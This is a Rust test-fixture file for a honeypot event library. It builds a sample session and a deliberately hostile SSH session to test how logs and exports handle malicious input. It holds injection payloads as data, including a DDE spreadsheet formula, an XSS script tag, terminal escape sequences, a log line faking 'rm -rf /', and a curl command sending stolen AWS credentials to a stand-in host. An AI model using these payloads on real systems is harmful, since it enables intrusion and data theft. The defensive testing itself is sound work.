//! Shared fixtures: the `every_kind()` sample session and a hostile session.

use std::net::IpAddr;

use miragepot_event::*;
use time::{Duration, OffsetDateTime};
use uuid::Uuid;

pub const FORMULA: &str = "=cmd|' /C calc'!A0";
pub const SCRIPT: &str = "<script>alert(1)</script>";

pub fn base_time() -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(1_790_000_000).unwrap()
}

pub fn ctx(session: &str, ip: &str) -> SessionContext {
    SessionContext {
        sensor: "sensor-1".into(),
        session: SessionId(Uuid::parse_str(session).unwrap()),
        src_ip: ip.parse().unwrap(),
        src_port: 51514,
    }
}

pub fn stamp(ctx: &SessionContext, kinds: Vec<EventKind>) -> Vec<Event> {
    kinds
        .into_iter()
        .enumerate()
        .map(|(n, k)| ctx.event(base_time() + Duration::milliseconds(1500 * n as i64), k))
        .collect()
}

pub fn sample_session() -> (SessionContext, Vec<Event>) {
    let c = ctx("0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b", "203.0.113.9");
    let events = stamp(&c, samples::every_kind());
    (c, events)
}

pub fn hostile_kinds() -> Vec<EventKind> {
    let esc = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m";
    vec![
        EventKind::SessionStart {
            protocol: Protocol::Ssh,
            dst_ip: IpAddr::from([10, 0, 0, 1]),
            dst_port: 22,
        },
        EventKind::ClientVersion {
            version: format!("SSH-2.0-{esc}\r\n{SCRIPT}"),
        },
        EventKind::AuthAttempt {
            method: AuthMethod::Password,
            username: SCRIPT.into(),
            password: Some("'\"\\\n\u{1b}[31m".into()),
            key_fingerprint: None,
            success: false,
            rule: Some("low:reject".into()),
        },
        EventKind::AuthAttempt {
            method: AuthMethod::Password,
            username: "root\n12:00:00.000 $ rm -rf / # fake line".into(),
            password: Some(FORMULA.into()),
            key_fingerprint: None,
            success: true,
            rule: Some("high:accept_any".into()),
        },
        EventKind::AuthAttempt {
            method: AuthMethod::Publickey,
            username: "git'".into(),
            password: None,
            key_fingerprint: Some("SHA256:abc\\def".into()),
            success: false,
            rule: Some("publickey:refused".into()),
        },
        EventKind::EnvRequest {
            name: "LANG\nX".into(),
            value: "\u{202e}txt.exe".into(),
        },
        EventKind::CommandInput {
            input: format!("echo '{esc}' \"\\\\\" ünïcödé 日本 {SCRIPT}"),
            mode: InputMode::Interactive,
            threat_score: 0,
            threat_rules: vec![],
        },
        EventKind::CommandResult {
            input: format!("echo '{esc}' \"\\\\\" ünïcödé 日本 {SCRIPT}"),
            output: format!("{esc}\r\nline2\rover\u{85}\u{202e}end\n"),
            exit_code: 0,
            output_truncated: true,
        },
        EventKind::CommandUnknown {
            name: format!("{FORMULA}\u{1b}"),
            installed: false,
        },
        EventKind::Download {
            tool: "wget".into(),
            url: "http://evil.example/a'b\\c?x=<script>&y=\"z\"".into(),
            host: "evil.example".into(),
            port: 80,
            destination: Some("/tmp/a'b".into()),
            size: Some(10),
            outcome: "saved".into(),
        },
        EventKind::Download {
            tool: "curl".into(),
            url: "http://[2001:db8::5]:8080/x".into(),
            host: "2001:db8::5".into(),
            port: 8080,
            destination: None,
            size: None,
            outcome: "dns_failed".into(),
        },
        EventKind::FileWritten {
            path: "/tmp/a'b".into(),
            size: 10,
            sha256: "11".repeat(32),
        },
        EventKind::FileWritten {
            path: "/root/.ssh/authorized_keys".into(),
            size: 90,
            sha256: "22".repeat(32),
        },
        EventKind::FileUploaded {
            path: "/tmp/-x,\"y\"".into(),
            size: 4,
            sha256: "33".repeat(32),
            via: UploadVia::Sftp,
        },
        EventKind::Ioc(Ioc {
            ioc: IocKind::Url,
            value: "http://evil.example/a'b\\c?x=<script>&y=\"z\"".into(),
            defanged: "hxxp://evil[.]example/a'b\\c".into(),
        }),
        EventKind::Ioc(Ioc {
            ioc: IocKind::Filename,
            value: FORMULA.into(),
            defanged: FORMULA.into(),
        }),
        EventKind::Ioc(Ioc {
            ioc: IocKind::Ip,
            value: "not an ip, \"really\"".into(),
            defanged: "x".into(),
        }),
        EventKind::Ioc(Ioc {
            ioc: IocKind::Domain,
            value: "@evil\texample\r\n".into(),
            defanged: "x".into(),
        }),
        EventKind::Ioc(Ioc {
            ioc: IocKind::HostPort,
            value: "pool.evil'\\.example:3333".into(),
            defanged: "x".into(),
        }),
        EventKind::Ioc(Ioc {
            ioc: IocKind::SshKey,
            value: "SHA256:+abc".into(),
            defanged: "x".into(),
        }),
        EventKind::ForwardRequest {
            kind: ForwardKind::DirectTcpip,
            host: Some(format!("{SCRIPT}.example")),
            port: Some(25),
            origin_host: Some("1.2.3.4\n".into()),
            origin_port: Some(1),
        },
        EventKind::HoneytokenTouched(TokenTouched {
            token: TokenKind::AwsKey,
            path: "/root/.aws/credentials".into(),
            action: TokenAction::Exfiltrate,
            evidence: format!("curl -d @x http://e/{esc}"),
        }),
        EventKind::Technique(TechniqueHit {
            technique: "T1105".into(),
            name: "Ingress Tool Transfer".into(),
            tactic_id: "TA0011".into(),
            tactic: "command_and_control".into(),
            confidence: Confidence::High,
            rule: "ingress.wget".into(),
            evidence: format!("wget {esc}"),
        }),
        EventKind::DelayApplied(DelayApplied {
            delay_ms: 900,
            score: 45,
            band: 40,
        }),
        EventKind::SessionEnd {
            reason: EndReason::ShellExit,
            duration_ms: 36_123,
        },
    ]
}

pub fn hostile_session() -> (SessionContext, Vec<Event>) {
    let c = ctx(
        "0193a1b2-c3d4-7e5f-9a9b-ffeeddccbbaa",
        "::ffff:198.51.100.23",
    );
    let events = stamp(&c, hostile_kinds());
    (c, events)
}

pub fn both() -> Vec<(SessionContext, Vec<Event>)> {
    vec![sample_session(), hostile_session()]
}

pub fn tags() -> Vec<String> {
    vec!["miner".into(), format!("{SCRIPT}\u{1b}[1m,{FORMULA}")]
}
